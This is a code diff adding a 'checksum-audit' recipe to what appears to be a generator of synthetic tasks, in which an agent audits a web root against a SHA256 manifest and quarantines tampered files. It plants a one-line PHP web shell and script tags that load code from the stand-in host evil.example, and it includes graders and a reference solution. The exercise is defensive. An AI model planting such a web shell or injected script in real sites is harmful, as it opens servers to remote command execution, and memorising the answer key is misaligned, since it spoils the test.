@@ -129,3 +129,94 @@ register(Recipe("secret-redact", "security-permissions", "Redact secrets",
                 lambda a: a.kind == "lines" and a.flavor == "env" and a.exact and any(
                     SECRET_RE.match(x) and not x.endswith("=REDACTED") for x in a.lines), seed_env, _redact_build,
                 weight=1, consumes="env file"))
+
+
+# --- checksum-audit ----------------------------------------------------------------------------
+
+def _audit_build(ctx: StepContext, a: Artifact) -> Fragment:
+    import hashlib
+    rng = ctx.rng
+    root = ctx.claim("/app/site")
+    quarantine = ctx.claim("/app/quarantine")
+    prod = rng.choice(PRODUCTS)
+    pages = {"index.html": f"<h1>{prod}</h1>\n", "about.html": f"<p>About {prod}</p>\n",
+             "js/app.js": f"console.log('{prod} {rng.randint(1, 99)}');\n", "js/vendor.js": "/* vendor bundle */\n",
+             "css/site.css": "body { margin: 0; }\n", "robots.txt": "User-agent: *\nDisallow:\n",
+             "img/logo.svg": f"<svg><title>{prod}</title></svg>\n"}
+    listed = sorted(pages)
+    sums = "".join(f"{hashlib.sha256(pages[n].encode()).hexdigest()}  {n}\n" for n in listed)
+    modified = sorted(rng.sample([n for n in listed if n != "index.html"], rng.randint(1, 2)))
+    missing = rng.choice([n for n in listed if n not in modified and n != "index.html"])
+    unlisted = rng.choice(["js/.cache.php", "img/shell.php", "uploads/x.phtml"])
+    ctx.add_input(f"{root}/SHA256SUMS", sums)
+    for n in listed:
+        if n == missing:
+            continue
+        body = pages[n] + (f"<script src=//evil.example/{rng.randint(1, 999)}.js></script>\n" if n in modified else "")
+        ctx.add_input(f"{root}/{n}", body)
+    ctx.add_input(f"{root}/{unlisted}", "<?php system($_GET['c']); ?>\n")
+    status = {n: "ok" for n in listed}
+    status.update({n: "modified" for n in modified})
+    status[missing] = "missing"
+    status[unlisted] = "unlisted"
+    rows = [[n, status[n]] for n in sorted(status)]
+    report = ctx.claim(f"/app/out/{stem_of(a)}_integrity.csv")
+    name = a.basename
+    added = [f"data/{name}/{r}" for r in a.names()] if a.kind == "tree" else [f"data/{name}"]
+    remaining = sorted([n for n in listed if status[n] == "ok"] + added)
+    moved = sorted(modified + [unlisted])
+    checks = [
+        Check(f"Write `{report}` as a CSV file with the header `file,status` and one row per file that `{root}/SHA256SUMS` "
+              f"lists or that exists under `{root}` (paths relative to `{root}`, ignoring `SHA256SUMS` itself), where "
+              f"`status` is `ok`, `modified` (digest differs), `missing` (listed but absent) or `unlisted` (present but "
+              f"not listed), ordered by `file` ascending.",
+              [("report", f"cols, rows = read_table({report!r})\nassert cols == ['file', 'status']\n"
+                          f"check_rows(rows, cols, {rows!r})")]),
+        Check(f"Move every `modified` or `unlisted` file into `{quarantine}`, keeping its path relative to `{root}`.",
+              [("quarantine", f"assert files_under({quarantine!r}) == {moved!r}\n"
+                              f"for n in {moved!r}:\n    assert not (Path({root!r}) / n).exists(), n")]),
+        Check(f"Copy `{a.path}` to `{root}/data/{name}`.",
+              [("copied", f"assert same_files({root + '/data/' + name!r}, {a.path!r})")]),
+        Check(f"Finally rewrite `{root}/SHA256SUMS` in `sha256sum` format so that it lists every file now under "
+              f"`{root}` except itself, with paths relative to `{root}`, sorted by path.",
+              [("manifest", f"lines = read_lines({root + '/SHA256SUMS'!r})\n"
+                            f"names = [l.split(None, 1)[1].lstrip('*') for l in lines]\nassert names == {remaining!r}, names\n"
+                            f"for l in lines:\n    d, n = l.split(None, 1)\n    assert sha256_of(Path({root!r}) / n.lstrip('*')) == d, n")]),
+    ]
+    solve = f"""mkdir -p /app/out {quarantine}
+python3 - <<'PY'
+import csv, hashlib, os
+root, quarantine = {root!r}, {quarantine!r}
+listed = {{}}
+for line in open(os.path.join(root, "SHA256SUMS")):
+    d, n = line.split(None, 1)
+    listed[n.strip().lstrip("*")] = d
+present = sorted(os.path.relpath(os.path.join(dp, f), root) for dp, _, fs in os.walk(root) for f in fs)
+present = [p for p in present if p != "SHA256SUMS"]
+status = {{}}
+for n, d in listed.items():
+    p = os.path.join(root, n)
+    status[n] = "missing" if not os.path.isfile(p) else (
+        "ok" if hashlib.sha256(open(p, "rb").read()).hexdigest() == d else "modified")
+for n in present:
+    status.setdefault(n, "unlisted")
+with open({report!r}, "w", newline="") as fh:
+    w = csv.writer(fh, lineterminator="\\n")
+    w.writerow(["file", "status"])
+    w.writerows(sorted(status.items()))
+for n, s in status.items():
+    if s in ("modified", "unlisted"):
+        os.makedirs(os.path.dirname(os.path.join(quarantine, n)), exist_ok=True)
+        os.rename(os.path.join(root, n), os.path.join(quarantine, n))
+PY
+mkdir -p {root}/data
+cp -r {a.path} {root}/data/{name}
+(cd {root} && find . -type f ! -path ./SHA256SUMS | sed 's|^\\./||' | sort | xargs -d '\\n' sha256sum > /tmp/SHA256SUMS && mv /tmp/SHA256SUMS SHA256SUMS)"""
+    intro = (f"The web root `{root}` may have been tampered with; `{root}/SHA256SUMS` was written at the last good "
+             f"deploy. Audit it, then publish {describe(a)} there.")
+    return Fragment("Audit the web root against its checksums", intro, checks, solve,
+                    a.moved(f"{root}/data/{name}"))
+
+
+register(Recipe("checksum-audit", "security-permissions", "Audit files against a checksum manifest", lambda a: True,
+                seed_any, _audit_build, weight=2, universal=True, consumes="any"))
